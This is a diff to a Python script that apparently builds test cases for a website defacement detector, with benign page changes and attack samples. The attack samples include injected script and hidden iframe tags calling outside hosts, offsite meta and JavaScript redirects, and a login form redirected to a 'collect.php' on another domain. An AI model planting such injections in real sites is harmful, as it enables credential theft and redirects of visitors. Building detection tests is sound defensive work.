@@ -314,10 +314,22 @@ def redesign(**kw):
 '''
 
 
+def write_shared_site():
+    """The site's usual observations, learned from by every case that does
+    not bring its own (site/base1.html..); written once, not per case."""
+    d = os.path.join(HERE, "site")
+    shutil.rmtree(d, ignore_errors=True)
+    os.makedirs(d)
+    for i, b in enumerate(bases(), 1):
+        with open(os.path.join(d, f"base{i}.html"), "w", encoding="utf-8") as f:
+            f.write(b)
+
+
 def write_case(kind, name, base_pages, new_page, expect, old=None):
+    """base_pages None: the case learns from the shared site/base*.html."""
     d = os.path.join(HERE, kind, name)
     os.makedirs(d, exist_ok=True)
-    for i, b in enumerate(base_pages, 1):
+    for i, b in enumerate(base_pages or [], 1):
         with open(os.path.join(d, f"base{i}.html"), "w", encoding="utf-8") as f:
             f.write(b)
     for i, b in enumerate(old or [], 1):
@@ -332,19 +344,20 @@ def write_case(kind, name, base_pages, new_page, expect, old=None):
 def main():
     for kind in ("benign", "attack"):
         shutil.rmtree(os.path.join(HERE, kind), ignore_errors=True)
+    write_shared_site()
 
     # ---- benign: what a real site does between two checks
-    write_case("benign", "news_added", bases(),
+    write_case("benign", "news_added", None,
                later(news_override=[NEWS[8]] + NEWS[0:5]), "benign")
-    write_case("benign", "news_week", bases(),
+    write_case("benign", "news_week", None,
                later(news_override=NEWS[8:12] + NEWS[0:2], date="۱۴۰۵/۰۹/۱۱"), "benign")
-    write_case("benign", "date_changed", bases(), later(date="۱۴۰۵/۰۹/۰۶"), "benign")
-    write_case("benign", "rotating_banner", bases(), later(banner=2), "benign")
-    write_case("benign", "csrf_token", bases(), later(csrf="ffeeddccbbaa99887766554433221100"), "benign")
-    write_case("benign", "ab_variant", bases(), later(hero="B"), "benign")
-    write_case("benign", "counters_changed", bases(),
+    write_case("benign", "date_changed", None, later(date="۱۴۰۵/۰۹/۰۶"), "benign")
+    write_case("benign", "rotating_banner", None, later(banner=2), "benign")
+    write_case("benign", "csrf_token", None, later(csrf="ffeeddccbbaa99887766554433221100"), "benign")
+    write_case("benign", "ab_variant", None, later(hero="B"), "benign")
+    write_case("benign", "counters_changed", None,
                later(visits=1299999, online=412, stats=(1533, 351, 17)), "benign")
-    write_case("benign", "news_about_hackers", bases(),
+    write_case("benign", "news_about_hackers", None,
                later(news_override=[NEWS_HACKERS] + NEWS[0:5]), "benign")
     write_case("benign", "redesign_accepted",
                [redesign(date="۱۴۰۵/۰۹/۰۶", visits=1250000, csrf="aa11bb22cc33dd44ee55ff6600771188"),
@@ -356,29 +369,29 @@ def main():
                "benign", old=bases())
 
     # ---- attacks
-    write_case("attack", "full_defacement", bases(), FULL_DEFACEMENT, "attack defacement_signature")
-    write_case("attack", "full_replacement_no_signature", bases(), POLITICAL_DEFACEMENT,
+    write_case("attack", "full_defacement", None, FULL_DEFACEMENT, "attack defacement_signature")
+    write_case("attack", "full_replacement_no_signature", None, POLITICAL_DEFACEMENT,
                "attack text_changed")
-    write_case("attack", "partial_defacement", bases(), later(top_banner=PARTIAL_BANNER),
+    write_case("attack", "partial_defacement", None, later(top_banner=PARTIAL_BANNER),
                "attack defacement_signature")
-    write_case("attack", "partial_defacement_persian", bases(), later(top_banner=PERSIAN_BANNER),
+    write_case("attack", "partial_defacement_persian", None, later(top_banner=PERSIAN_BANNER),
                "attack defacement_signature")
-    write_case("attack", "injected_script", bases(),
+    write_case("attack", "injected_script", None,
                later(body_end='  <script src="https://cdn.jsdeliver-stats.example/analytics.min.js"></script>\n'),
                "attack new_script_host")
-    write_case("attack", "hidden_iframe", bases(),
+    write_case("attack", "hidden_iframe", None,
                later(body_end='  <iframe src="http://counter-stat.example/in.php?id=7781" width="1" height="1" frameborder="0" style="visibility:hidden"></iframe>\n'),
                "attack new_iframe_host")
-    write_case("attack", "seo_spam", bases(), later(body_end=spam_block()), "attack seo_spam")
-    write_case("attack", "meta_refresh", bases(),
+    write_case("attack", "seo_spam", None, later(body_end=spam_block()), "attack seo_spam")
+    write_case("attack", "meta_refresh", None,
                later(extra_head='  <meta http-equiv="refresh" content="0; url=https://gift-card-win.example/fa">\n'),
                "attack redirect_offsite")
-    write_case("attack", "js_redirect", bases(),
+    write_case("attack", "js_redirect", None,
                later(extra_head='  <script>if (document.referrer.indexOf("google") > -1) { window.location.href = "https://bet-fa.example/?ref=mrud"; }</script>\n'),
                "attack redirect_offsite")
-    write_case("attack", "form_hijack", bases(),
+    write_case("attack", "form_hijack", None,
                later(form_action="https://mrud-login.example/collect.php"), "attack form_action_offsite")
-    write_case("attack", "title_replaced", bases(),
+    write_case("attack", "title_replaced", None,
                later(title="خرید فالوور ارزان اینستاگرام"), "attack title_replaced")
 
 
